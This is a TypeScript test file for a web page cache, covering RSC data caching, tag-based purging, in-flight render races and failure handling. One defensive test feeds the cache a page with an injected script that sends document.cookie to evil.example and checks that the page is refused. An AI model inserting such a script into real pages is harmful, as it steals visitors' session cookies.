import type { RequestListener } from "node:http";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { cachePage, tagPage } from "#lib/platform/page-cache/tag-page.ts";
import { countingPage, hold, html, startPageCache } from "#tests/page-renderer.ts";

let now = 1_800_000_000_000;
let close = async () => {};
beforeEach(() => {
  vi.spyOn(Date, "now").mockImplementation(() => now);
});
afterEach(async () => {
  vi.restoreAllMocks();
  await close();
});
const start = async (...options: Parameters<typeof startPageCache>) => {
  const started = await startPageCache(...options);
  close = started.close;
  return started;
};

describe("page data (RSC)", () => {
  const data = { rsc: "1", "next-router-state-tree": "%5B%22%22%5D", "next-url": "/de" };
  const render: RequestListener = (req, res) => {
    tagPage("material:1");
    cachePage(60);
    const isData = req.headers.rsc === "1";
    res.setHeader("content-type", isData ? "text/x-component" : "text/html");
    res.setHeader("vary", "rsc, next-router-state-tree");
    res.end(html(`${isData ? `data ${req.headers["next-router-state-tree"]} ${req.headers["next-router-prefetch"]} ${req.url}` : "page"}`));
  };
  it("is cached beside the page, by the headers that vary it, and purged with it", async () => {
    const { get, cache } = await start(render);
    expect((await get("/de")).text).toContain("page");
    const first = await get("/de?_rsc=abc", { headers: data });
    expect(first.text).toContain("data %5B%22%22%5D undefined /de?_rsc=abc");
    expect(first.headers["content-security-policy"]).toBeUndefined();
    // No search engine shows the data of a page.
    expect([first.headers["x-robots-tag"], (await get("/de")).headers["x-robots-tag"]]).toEqual(["noindex", undefined]);
    expect(first.headers.vary).toBe("rsc, next-router-state-tree, accept-encoding");
    expect((await get("/de?_rsc=abc", { headers: data })).headers["x-cache"]).toBe("HIT");
    expect((await get("/de?_rsc=abc", { headers: { ...data, "next-router-prefetch": "1" } })).headers["x-cache"]).toBe("MISS");
    expect((await get("/de?_rsc=abc", { headers: { ...data, "next-router-state-tree": "x" } })).headers["x-cache"]).toBe("MISS");
    expect((await get("/de")).headers["x-cache"]).toBe("HIT");
    expect(cache.purge(["material:1"])).toBe(4);
    expect((await get("/de?_rsc=abc", { headers: data })).headers["x-cache"]).toBe("MISS");
  });
  it("is not stored under endless keys", async () => {
    const { get, cache } = await start(render, { bounds: { entries: 5 } });
    for (let i = 0; i < 20; i++) await get("/de?_rsc=a", { headers: { ...data, "next-router-state-tree": `t${i}` } });
    await get("/de?_rsc=a", { headers: { ...data, "next-router-state-tree": "x".repeat(9_000) } });
    expect(cache.size().data.entries).toBe(5);
  });
});

describe("purging", () => {
  it("forgets exactly the pages with the tag; * forgets all", async () => {
    const render: RequestListener = (req, res) => {
      tagPage(`material:${req.url?.at(-1)}`);
      tagPage("materials");
      cachePage(60);
      res.setHeader("content-type", "text/html");
      res.end(html("x"));
    };
    const { get, cache } = await start(render);
    for (const path of ["/m/1", "/m/2", "/m/3"]) await get(path);
    expect(cache.purge(["material:1", "material:9"])).toBe(1);
    expect((await get("/m/1")).headers["x-cache"]).toBe("MISS");
    expect((await get("/m/2")).headers["x-cache"]).toBe("HIT");
    expect(cache.purge(["materials"])).toBe(3);
    await get("/m/1");
    expect(cache.purge(["*"])).toBe(1);
    expect(cache.size().pages).toMatchObject({ entries: 0, tags: 0 });
  });

  it.each([["material:1"], ["*"]])("a page is not stored when %s was purged while it rendered", async (tag) => {
    const { state, render } = countingPage(["material:1"]);
    const { gate, release } = hold();
    state.gate = gate;
    const { get, cache } = await start(render);
    const before = get("/de");
    await vi.waitFor(() => expect(state.renders).toBe(1), 20_000);
    cache.purge([tag]);
    release();
    expect((await before).text).toContain("render 1 ");
    expect(cache.size().pages.entries).toBe(0);
    expect((await get("/de")).text).toContain("render 2 ");
  });

  it("who comes after a purge gets a new render, also while an older one is still in flight", async () => {
    const { state, render } = countingPage(["material:1"]);
    const { gate, release } = hold();
    state.gate = gate;
    const { get, cache } = await start(render);
    const before = get("/de");
    await vi.waitFor(() => expect(state.renders).toBe(1), 20_000);
    cache.purge(["material:1"]);
    const after = get("/de");
    await vi.waitFor(() => expect(state.renders).toBe(2), 20_000);
    release();
    expect((await before).text).toContain("render 1 ");
    expect((await after).text).toContain("render 2 ");
    expect((await get("/de")).text).toContain("render 2 ");
  });

  it("a purge of another tag does not hinder storing", async () => {
    const { state, render } = countingPage(["material:1"]);
    const { gate, release } = hold();
    state.gate = gate;
    const { get, cache } = await start(render);
    const first = get("/de");
    await vi.waitFor(() => expect(state.renders).toBe(1), 20_000);
    cache.purge(["material:2"]);
    release();
    await first;
    expect((await get("/de")).headers["x-cache"]).toBe("HIT");
  });
});

describe("failures", () => {
  it("threat 19 an inline script that is not the framework's fails the page loudly", async () => {
    const errors: unknown[] = [];
    const { get } = await start(
      (_req, res) => {
        cachePage(60);
        res.setHeader("content-type", "text/html");
        res.end(`${html("x")}<script>fetch("https://evil.example/"+document.cookie);${"/* long */".repeat(20)}</script>`);
      },
      { onError: (error) => errors.push(error) },
    );
    const reply = await get("/de");
    expect(reply.status).toBe(500);
    expect(reply.text).not.toContain("evil");
    expect(reply.headers["content-security-policy"]).toContain("default-src 'none'");
    const message = String(errors[0]);
    expect(message).toContain('inline script in a page: fetch("https://evil.example/"+document.cookie);');
    expect(message.length).toBeLessThan(150);
  });

  it("a renderer that throws gives 500, or the last known page when there is one", async () => {
    const { state, render } = countingPage();
    const { get } = await start(render);
    state.fail = true;
    expect((await get("/de")).status).toBe(500);
    state.fail = false;
    await get("/de");
    state.fail = true;
    now += 3_600_000;
    const old = await get("/de");
    expect([old.status, old.headers["x-cache"]]).toEqual([200, "STALE"]);
  });

  it("503 with Retry-After when the database is away, both for a thrown error and for the framework's own error page", async () => {
    const { get } = await start(
      (req, res) => {
        if (req.url === "/throws") throw new Error("no database");
        res.writeHead(500, { "content-type": "text/html" });
        res.end(html("Internal error"));
      },
      { isDatabaseAway: async () => true },
    );
    for (const path of ["/throws", "/answers"]) {
      const reply = await get(path);
      expect([reply.status, reply.headers["retry-after"], reply.headers["cache-control"]]).toEqual([503, "5", "no-store"]);
    }
  });

  it("a render that never ends is given up", async () => {
    const { get, cache } = await start(() => {}, { renderTimeoutMs: 50 });
    expect((await get("/de")).status).toBe(500);
    expect(cache.size().flying).toBe(0);
  });

  it("the visitor who asked first may leave: the others still get the page", async () => {
    const { state, render } = countingPage();
    const { gate, release } = hold();
    state.gate = gate;
    const { get, port } = await start(render);
    const left = new AbortController();
    const leaving = fetch(`http://127.0.0.1:${port}/de`, { signal: left.signal }).catch(() => "left");
    await vi.waitFor(() => expect(state.renders).toBe(1), 20_000);
    left.abort();
    expect(await leaving).toBe("left");
    release();
    expect((await get("/de", { headers: { host: `127.0.0.1:${port}` } })).text).toContain("render 1 ");
  });
});
